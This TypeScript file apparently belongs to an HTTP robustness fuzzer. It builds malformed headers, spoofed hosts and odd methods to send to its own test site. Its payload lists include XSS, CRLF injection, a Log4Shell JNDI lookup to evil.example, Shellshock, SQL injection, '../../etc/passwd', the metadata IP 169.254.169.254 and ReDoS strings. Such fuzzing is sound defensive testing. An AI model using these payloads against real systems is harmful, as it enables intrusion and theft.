import { known, type Maker, utf8, write } from './hostile-request.ts';
import type { Random } from './random.ts';

const badNames = [
  'X Y',
  'X\x00Y',
  'X\xffY',
  '',
  '"X"',
  'X(Y)',
  'X@Y',
  'X\tY',
  '\x7f',
  '[',
  'X/Y',
] as const;

const badValues = [
  'a\x00b',
  'a\x01b',
  'a\x7fb',
  'a\rb',
  '\xff\xfe\xfd',
  utf8('सेतु \u202e'),
  '<script>alert(1)</script>',
  '%0d%0aSet-Cookie: a=b',
  `\${jndi:ldap://evil.example/a}`,
  '() { :;}; echo bad',
  '" onload="',
  "' OR 1=1 --",
  '../../etc/passwd',
  '\t \t',
] as const;

const names = [
  'User-Agent',
  'Referer',
  'Cookie',
  'Accept',
  'Accept-Language',
  'Authorization',
  'Origin',
  'Sec-Fetch-Site',
  'X-Request-Id',
  'Traceparent',
  'Content-Type',
  'Cache-Control',
  'Pragma',
  'Via',
  'Upgrade',
  'Connection',
  'Expect',
  'From',
  'Max-Forwards',
  'Proxy-Authorization',
  'X-Custom',
  '__proto__',
  'constructor',
  'toString',
] as const;

/** Headers that something may take apart, and some that nothing reads. */
export const parsedNames = [
  'Accept',
  'Accept-Encoding',
  'Accept-Language',
  'Authorization',
  'Cache-Control',
  'Connection',
  'Content-Encoding',
  'Content-Type',
  'Cookie',
  'Forwarded',
  'Host',
  'If-Match',
  'If-Modified-Since',
  'If-None-Match',
  'If-Range',
  'Origin',
  'Prefer',
  'Range',
  'Referer',
  'Sec-Fetch-Site',
  'TE',
  'User-Agent',
  'Via',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'X-Forwarded-Proto',
  'X-Request-Id',
] as const;

/** What a backtracking or quadratic parser is slow on, when it comes many times. */
export const repeatedParts = [
  ' ',
  '\t',
  ',',
  ';',
  ' ;',
  '=',
  '"',
  'a ',
  'a;',
  'a, ',
  '%',
  '/',
  '0-',
] as const;

/** Names and values that are none, folded lines, the same name many times, thousands of names. */
export const makeHeaders: Maker = (random) => {
  const marker = random.marker();
  const value = `${random.pick(badValues)}${marker}`;
  const name = random.pick(names);
  const kind = random.below(10);
  const lines = [
    () => [`${random.pick(badNames)}: ${marker}`],
    () => [`${name}: ${value}`],
    () => [`${name}: a`, ` folded ${marker}`],
    () => Array.from({ length: 2 + random.below(40) }, () => `${name}: ${value}`),
    () => Array.from({ length: 500 + random.below(2_500) }, (_, at) => `X-${at}: ${marker}`),
    () => [`X-Long: ${marker}${'a'.repeat(random.pick([100, 4_000, 20_000, 80_000] as const))}`],
    () => [`${marker}`, `:${marker}`, `${name}`].slice(random.below(3)),
    () => [
      `Connection: ${random.pick(['upgrade', 'close, upgrade', 'host', 'x-request-id', 'TE, close'] as const)}`,
      `Upgrade: ${random.pick(['websocket', 'h2c', 'TLS/1.0', marker] as const)}`,
      `HTTP2-Settings: ${marker}`,
    ],
    () => [
      `Expect: ${random.pick(['100-continue', '200-ok', marker, ''] as const)}`,
      `X-Note: ${marker}`,
    ],
    () => {
      const part = random.pick(repeatedParts);
      const length = random.pick([900, 5_000, 15_000] as const);
      const long = part.repeat(length / part.length);
      return [`${random.pick(parsedNames)}: a${long}a`, `X-Note: ${marker}`];
    },
  ][kind];
  return {
    family: `headers ${kind}`,
    method: 'GET',
    marker,
    bytes: write({
      target: random.pick(known),
      headers: ['Host: circle.example', ...(lines?.() ?? [])],
    }),
    connection: 'either',
  };
};

const hosts = (random: Random, marker: string) =>
  random.pick([
    'evil.example',
    `${marker}.example`,
    `circle.example:${marker}`,
    'circle.example:99999',
    'user:password@circle.example',
    'circle.example/../',
    'circle.example#',
    '',
    ' ',
    'a b',
    '[::1]',
    '[::1',
    `"><script>${marker}</script>`,
    'localhost',
    '169.254.169.254',
    '.',
    '\xff',
    'circle.example, evil.example',
  ] as const);

const forwarded = [
  'X-Forwarded-Host',
  'X-Forwarded-Server',
  'X-Host',
  'X-Original-Host',
  'X-HTTP-Host-Override',
  'Forwarded',
  'X-Forwarded-Proto',
  'X-Forwarded-Scheme',
  'X-Forwarded-Ssl',
  'Front-End-Https',
  'X-Forwarded-Port',
  'X-Forwarded-Prefix',
  'X-Forwarded-For',
  'X-Real-IP',
  'True-Client-IP',
  'CF-Connecting-IP',
  'X-Original-URL',
  'X-Rewrite-URL',
  'X-HTTP-Method-Override',
  'X-Method-Override',
  'X-Request-Id',
] as const;

/** Hosts that are not ours and headers that would say so, if anybody believed them. */
export const makeHost: Maker = (random) => {
  const marker = random.marker();
  const lines = [
    ...(random.chance(0.9) ? [`Host: ${hosts(random, marker)}`] : []),
    ...(random.chance(0.15) ? [`Host: ${hosts(random, marker)}`] : []),
    ...Array.from({ length: random.below(5) }, () => {
      const value = random.pick([
        'evil.example',
        `${marker}.example`,
        'https',
        `host=${marker};proto=https;for="[::1]:80"`,
        '127.0.0.1',
        `1.2.3.4, ${marker}, ::1`,
        '/admin',
        `//${marker}`,
        'DELETE',
        `${'9.9.9.9, '.repeat(200)}${marker}`,
      ] as const);
      return `${random.pick(forwarded)}: ${value}`;
    }),
    `X-Note: ${marker}`,
  ];
  const target = random.pick([
    '/About/',
    '/EVENTS',
    '//about',
    '/',
    '/events',
    '/no-such-page',
    '/feed.atom',
    '/newsletter/confirm?token=x',
  ] as const);
  return {
    family: 'host',
    method: 'GET',
    marker,
    bytes: write({ target, headers: lines }),
    connection: 'either',
  };
};

/** Methods that nobody needs, that nobody knows, and what is no method. */
export const makeMethod: Maker = (random) => {
  const marker = random.marker();
  const method = random.pick([
    'TRACE',
    'TRACK',
    'CONNECT',
    'OPTIONS',
    'PUT',
    'DELETE',
    'PATCH',
    'PROPFIND',
    'SEARCH',
    'PURGE',
    'DEBUG',
    'LINK',
    'M-SEARCH',
    'QUERY',
    'get',
    'Get',
    'GETT',
    'G',
    'PRI',
    marker,
    '',
    '\xff',
    'GET\t',
    '<script>',
  ] as const);
  const target = random.chance(0.1)
    ? random.pick(['*', 'circle.example:443'] as const)
    : random.pick(known);
  const line = `${method} ${target} ${random.pick(['HTTP/1.1', 'HTTP/1.1', 'HTTP/1.1', 'HTTP/1.0', 'HTTP/2.0', 'HTTP/0.9', 'HTTP/1.2', 'HTTP/9', 'http/1.1', 'ICE/1.0', ''] as const)}`;
  return {
    family: 'method',
    method: method.trim(),
    marker,
    bytes: Buffer.from(
      `${line}\r\nHost: circle.example\r\nX-Note: ${marker}\r\nX-Forwarded-For: ${marker}\r\n\r\n`,
      'latin1',
    ),
    connection: 'either',
    after: 'half-close',
  };
};
